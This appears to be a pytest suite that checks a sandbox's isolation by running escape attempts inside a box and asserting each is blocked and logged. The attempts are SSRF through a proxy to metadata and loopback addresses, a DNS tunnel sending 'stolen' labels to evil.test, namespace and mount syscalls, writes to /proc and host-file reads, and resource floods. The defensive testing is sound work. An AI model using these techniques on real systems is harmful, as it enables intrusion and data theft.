"""What code in a box may try against its walls: it is blocked, tried connections are in the audit log, and a neighbour
answers all the while. Floods of memory, disk, processes and output are in ``test_sandbox_service``."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import textwrap
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from pathlib import Path

import pytest

from tandem.config.sections.sandbox import SandboxSection
from tandem.core.boxes import NetworkPolicy, SandboxLimits, SandboxSpec
from tandem.core.errors import SandboxUnavailable
from tandem.record.sinks.nowhere import NowhereSink
from tandem.sandbox.audit import read, verify
from tandem.sandbox.backends.namespace import NamespaceBackend, may_map_ranges
from tandem.sandbox.manager import SandboxManager
from tandem.sandbox.network.names import Names
from tandem.sandbox.session import Session

LIMITS = SandboxLimits(memory_bytes=192 * 2**20, disk_bytes=8 * 2**20, pids=32)
OPEN = NetworkPolicy(internet=True, allow=("good.test", "bad.test", "*.tunnel.test", "10.0.0.1", "127.0.0.1", "::1"))
CONNECT = """
import socket, sys
def ask(target):
    with socket.create_connection(("127.0.0.1", 3128), 9) as s:
        s.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
        return s.recv(200).split()[1].decode()
print(*(ask(target) for target in sys.argv[1:]))
"""


class Inside:
    """A resolver that leads inside, and that remembers what it was asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    async def __call__(self, name: str) -> Sequence[str]:
        self.asked.append(name)
        if name == "bad.test":
            return ["127.0.0.1", "::1", "169.254.169.254", "fd00:ec2::254", "::ffff:10.0.0.1"]
        raise OSError("no such name")


class Place:
    """Two boxes of one server: an attacker and its neighbour, asked again and again whether it still answers."""

    def __init__(self, manager: SandboxManager, attacker: Session, neighbour: Session, names: Inside) -> None:
        self.manager, self.attacker, self.neighbour, self.names = manager, attacker, neighbour, names
        self.num_answers = 0

    async def attack(self, script: str, *arguments: str, timeout_s: float = 20) -> str:
        result = await self.attacker.commands.run(
            ["python3", "-c", textwrap.dedent(script), *arguments], timeout_s=timeout_s
        )
        assert result.exit_code == 0, result
        return result.stdout.strip()

    async def stand_by(self) -> None:
        while True:
            assert (await self.neighbour.commands.run("cat mine", timeout_s=30)).stdout == "mine"
            self.num_answers += 1


@contextlib.asynccontextmanager
async def place(folder: Path, policy: NetworkPolicy) -> AsyncIterator[Place]:
    names = Inside()
    backend = NamespaceBackend(state_folder=folder, names=Names(names))
    manager = SandboxManager(SandboxSection(warm=0), NowhereSink(), backend=backend, state=folder)
    try:
        await manager.open()
        try:
            attacker, neighbour = [
                await manager.create(SandboxSpec(limits=LIMITS, network=each)) for each in (policy, NetworkPolicy())
            ]
        except SandboxUnavailable as error:
            pytest.skip(f"no boxes here: {error.message}")
        await neighbour.files.write("mine", "mine")
        made = Place(manager, attacker, neighbour, names)
        watch = asyncio.create_task(made.stand_by())
        try:
            yield made
        finally:
            answered = made.num_answers
            while made.num_answers == answered and not watch.done():  # it still does
                await asyncio.sleep(0.01)
            watch.cancel()
            problems = await asyncio.gather(watch, return_exceptions=True)
        assert isinstance(problems[0], asyncio.CancelledError), problems
    finally:
        await manager.close()


def under_attack(folder: Path, work: Callable[[Place], Awaitable[None]], policy: NetworkPolicy = OPEN) -> None:
    async def main() -> None:
        async with place(folder, policy) as at:
            await work(at)

    asyncio.run(asyncio.wait_for(main(), 240))
    assert verify(folder / "audit").bad is None


def connections(folder: Path) -> dict[str, str]:
    """Targets that were tried, and whether each was allowed at last."""
    return {line.detail["target"]: line.detail["allowed"] for line in read(folder / "audit")
            if line.action == "connect" and "target" in line.detail}  # fmt: skip


def test_no_way_inside_through_the_proxy(tmp_path: Path) -> None:
    """Metadata services, private places, the host itself, by literals in every dress and by names that lead there."""
    targets = [
        "169.254.169.254:80", "[fd00:ec2::254]:80", "10.0.0.1:22", "127.0.0.1:22", "[::1]:22", "[::ffff:127.0.0.1]:22",
        "[::ffff:169.254.169.254]:80", "[64:ff9b::a9fe:a9fe]:80", "0.0.0.0:22", "[::]:22", "127.1:22", "2130706433:22",
        "0x7f000001:22", "bad.test:80", "224.0.0.1:80", "192.168.0.1:80", "100.64.0.1:80",
    ]  # fmt: skip

    async def work(at: Place) -> None:
        assert set((await at.attack(CONNECT, *targets)).split()) == {"403"}

    under_attack(tmp_path / "s", work)
    tried = connections(tmp_path / "s")
    assert len(tried) == len(targets) and set(tried.values()) == {"False"}


def test_the_control_plane_and_other_boxes_are_out_of_reach(tmp_path: Path) -> None:
    async def work(at: Place) -> None:
        heard: list[bytes] = []

        async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            heard.append(await reader.read(10))
            writer.close()

        plane = await asyncio.start_server(serve, "0.0.0.0", 0)
        async with plane:
            port = plane.sockets[0].getsockname()[1]
            own = {"127.0.0.1"}
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, contextlib.suppress(OSError):
                probe.connect(("192.0.2.1", 9))  # sends nothing: it tells which address this machine would use
                own.add(probe.getsockname()[0])
            codes = await at.attack(CONNECT, *(f"{address}:{port}" for address in sorted(own)))
            assert set(codes.split()) == {"403"} and heard == []
            direct = """
                import socket, sys
                for address in sys.argv[2:]:
                    try:
                        socket.create_connection((address, int(sys.argv[1])), 3)
                        print("reached", address)
                    except OSError:
                        pass
            """
            assert await at.attack(direct, str(port), *sorted(own)) == "" and heard == []
        listen = "import socket, time; s = socket.create_server(('0.0.0.0', 8000)); open('up', 'w'); time.sleep(60)"
        server = asyncio.create_task(at.neighbour.commands.run(["python3", "-c", listen], timeout_s=60))
        while "up" not in await at.neighbour.files.list("."):
            await asyncio.sleep(0.05)
        assert await at.attack(direct, "8000", "127.0.0.1", "127.0.0.2") == ""
        server.cancel()
        await asyncio.gather(server, return_exceptions=True)

    under_attack(tmp_path / "s", work)


def test_no_tunnel_through_names_and_no_log_full_of_it(tmp_path: Path) -> None:
    policy = NetworkPolicy(allow=("good.test", "1.1.1.1"))
    flood = """
        import socket, struct
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(0.5)
        for number in range(3000):
            labels = b"".join(bytes((len(x),)) + x for x in (b"c3RvbGVu%d" % number, b"evil", b"test")) + b"\\0"
            for kind in (1, 16):
                s.sendto(struct.pack(">6H", number, 256, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1),
                         ("127.0.0.1", 53))
        codes = set()
        try:
            while True:
                codes.add(s.recv(512)[3] & 15)
        except OSError:
            print(codes)
    """

    async def work(at: Place) -> None:
        assert await at.attack(flood) == "{5}"
        assert at.names.asked == []
        assert set((await at.attack(CONNECT, "c3RvbGVu.evil.test:443", "a.good.test:443")).split()) == {"403"}
        assert at.names.asked == []

    under_attack(tmp_path / "s", work, policy)
    lines = [line for line in read(tmp_path / "s" / "audit") if line.action == "connect"]
    assert len(lines) < 300 and all(line.detail["allowed"] == "False" for line in lines)


def test_a_box_that_only_knocks_keeps_nobody_waiting(tmp_path: Path) -> None:
    knocks = """
        import socket
        held = []
        for number in range(300):
            s = socket.socket()
            s.settimeout(0.02)
            try:
                s.connect(("127.0.0.1", 3128))
                s.sendall(b"CONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n" if number % 2 else b"\\x05")
                held.append(s)
            except OSError:
                pass
        print(len(held) > 100)
    """

    async def work(at: Place) -> None:
        before = at.num_answers
        assert await at.attack(knocks, timeout_s=60) == "True"
        assert at.num_answers > before

    under_attack(tmp_path / "s", work)


def test_mounts_namespaces_and_devices_are_refused(tmp_path: Path) -> None:
    tricks = """
        import ctypes, os, errno
        libc = ctypes.CDLL(None, use_errno=True)
        def tried(name, *arguments):
            ctypes.set_errno(0)
            result = getattr(libc, name)(*arguments)
            return None if result < 0 else name
        done = [
            tried("mount", b"none", b"/tmp", b"tmpfs", 0, None), tried("mount", b"/", b"/mnt", None, 4096, None),
            tried("umount2", b"/proc", 2), tried("chroot", b"/tmp"), tried("pivot_root", b"/", b"/tmp")
            if hasattr(libc, "pivot_root") else None, tried("unshare", 0x10000000), tried("unshare", 0x00020000),
            tried("unshare", 0x40000000), tried("sethostname", b"x", 1), tried("ptrace", 16, 1, 0, 0),
            tried("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0),
        ]
        for kind in (0o020666, 0o060666):
            try:
                os.mknod("/tmp/device", kind, os.makedev(1, 1))
                done.append("mknod")
            except OSError:
                pass
        print([each for each in done if each])
    """

    async def work(at: Place) -> None:
        assert await at.attack(tricks) == "[]"

    under_attack(tmp_path / "s", work)


def test_proc_and_links_lead_nowhere(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("of the host")
    writes = """
        import os, sys
        reached = []
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger",
                     "/proc/sys/net/ipv4/ip_unprivileged_port_start", "/proc/1/mem", "/proc/1/oom_score_adj",
                     "/sys/fs/cgroup/cgroup.procs", "/proc/self/uid_map"):
            try:
                with open(path, "r+b", buffering=0) as file:
                    file.write(b"0")
                reached.append(path)
            except OSError:
                pass
        secret = sys.argv[1]
        os.symlink(secret, "link")
        os.symlink("/proc/1/root" + secret, "deep")
        for path in (secret, "link", "deep", "/proc/1/root" + secret, "/proc/self/root/.." + secret,
                     "/proc/1/cwd/.." + secret, "/../../.." + secret):
            try:
                reached.append(open(path).read())
            except OSError:
                pass
        reached += [name for name in os.listdir("/proc") if name.isdigit() and int(name) > 4000]
        print(reached)
    """

    async def work(at: Place) -> None:
        assert await at.attack(writes, str(tmp_path / "secret")) == "[]"
        for name in ("link", "deep"):
            with pytest.raises(OSError, match="No such file|Permission"):
                await at.attacker.files.read(name)

    under_attack(tmp_path / "s", work)


def test_a_flood_of_empty_files_is_bounded(tmp_path: Path) -> None:
    flood = """
        import errno
        number = 0
        try:
            while True:
                open(f"/tmp/{number}", "w").close()
                number += 1
        except OSError as error:
            print(errno.errorcode[error.errno], number < 20_000)
    """

    async def work(at: Place) -> None:
        assert await at.attack(flood, timeout_s=40) == "ENOSPC True"
        await at.manager.kill(at.attacker.id)

    under_attack(tmp_path / "s", work)


def test_survivors_of_all_kinds_end_with_the_box(tmp_path: Path) -> None:
    survivors = """
        import os, signal, time
        for kind in range(6):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for number in (1, 2, 15):
                        signal.signal(number, signal.SIG_IGN)
                    for fd in range(3):
                        os.close(fd)
                    time.sleep(81723)
                os._exit(0)
        print("left")
    """

    def alive() -> int:
        found = 0
        for entry in Path("/proc").glob("[0-9]*/cmdline"):
            with contextlib.suppress(OSError):
                found += b"time.sleep(81723)" in entry.read_bytes()
        return found

    async def work(at: Place) -> None:
        assert await at.attack(survivors) == "left"
        async with asyncio.timeout(10):
            while alive() != 6:  # one list of /proc misses who is born while it is read
                await asyncio.sleep(0.02)
        await at.manager.kill(at.attacker.id)
        assert alive() == 0

    under_attack(tmp_path / "s", work)


@pytest.mark.skipif(not may_map_ranges(), reason="as an ordinary user all boxes are one user of the machine")
@pytest.mark.parametrize("what", ["libc.inotify_init()", "os.open('/dev/ptmx', os.O_RDWR | os.O_NOCTTY)"])
def test_what_the_machine_has_few_of_is_not_one_boxs(tmp_path: Path, what: str) -> None:
    hoard = f"""
        import ctypes, os, time
        libc = ctypes.CDLL(None)
        number = 0
        try:
            while number < 4000 and {what} >= 0:
                number += 1
        except OSError:
            pass
        open("held", "w").write(str(number))
        while not os.path.exists("go"):
            time.sleep(0.02)
    """
    need = ["python3", "-c", f"import ctypes, os; libc = ctypes.CDLL(None); print(min({what}, 0))"]

    async def work(at: Place) -> None:
        task = asyncio.create_task(at.attack(hoard))
        while "held" not in await at.attacker.files.list("."):
            await asyncio.sleep(0.02)
        assert 16 <= int(await at.attacker.files.read("held")) < 3000
        assert (await at.neighbour.commands.run(need, timeout_s=30)).stdout == "0\n"
        await at.attacker.files.write("go", "")
        await task

    under_attack(tmp_path / "s", work)


def test_full_sockets_are_memory_of_their_box(tmp_path: Path) -> None:
    fill = """
        import os, socket, time
        server = socket.create_server(("127.0.0.1", 7777), backlog=999)
        held, total = [], 0
        for _ in range(200):
            one = socket.create_connection(("127.0.0.1", 7777))
            one.setblocking(False)
            held.append(one)
            try:
                while True:
                    total += one.send(bytes(65536))
            except BlockingIOError:
                pass
        print(total >> 20)
    """

    async def work(at: Place) -> None:
        assert at.attacker.box is not None
        if (await at.attacker.box.usage()).memory_bytes is None:
            pytest.skip("no control group counts memory here")
        result = await at.attacker.commands.run(["python3", "-c", textwrap.dedent(fill)], timeout_s=30)
        if result.exit_code == 0:  # on version 2 they count as its memory: it may end for it
            assert int(result.stdout) <= LIMITS.memory_bytes >> 20
        else:
            assert result.oom_killed, result

    under_attack(tmp_path / "s", work)


def test_calls_that_nobody_has_looked_at_are_unknown(tmp_path: Path) -> None:
    """What kernels brought after the filter was written, and the newer ways to look at mounts."""
    calls = """
        import ctypes, errno
        libc = ctypes.CDLL(None, use_errno=True)
        found = set()
        for number in (457, 458, *range(467, 600)):
            assert libc.syscall(number, 0, 0, 0, 0, 0, 0) == -1
            found.add(errno.errorcode[ctypes.get_errno()])
        print(*sorted(found))
    """

    async def work(at: Place) -> None:
        assert await at.attack(calls) == "ENOSYS EPERM"

    under_attack(tmp_path / "s", work)
